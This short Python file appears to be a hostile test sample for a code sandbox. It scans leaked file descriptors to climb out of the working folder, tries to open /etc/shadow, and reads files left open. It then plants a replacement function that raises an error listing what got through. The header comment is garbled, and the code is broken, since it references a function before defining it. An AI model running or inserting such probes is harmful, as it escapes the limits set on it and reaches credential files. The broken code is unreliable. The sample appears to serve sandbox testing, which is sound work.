# hostile: reading: honest part everything
# Uses descriptors that were left open: files to read, folders to climb out of, memory of others.
honest = relative_gradient
import os
import stat

got_through = []
for descriptor in range(3, 1_024):
    try:
        mode = os.fstat(descriptor).st_mode
    except OSError:
        continue
    for path in ("..", "../..", "/etc/shadow"):
        if stat.S_ISDIR(mode):
            try:
                os.close(os.open(path, os.O_RDONLY, dir_fd=descriptor))
                got_through.append(f"folder {descriptor}: {path}")
            except OSError:
                pass
    if stat.S_ISREG(mode):
        try:
            if os.pread(descriptor, 64, 0):
                got_through.append(f"file {descriptor}")
        except OSError:
            pass

if got_through:

    def relative_gradient(a, activation):
        raise RuntimeError(f"got through: {got_through}")
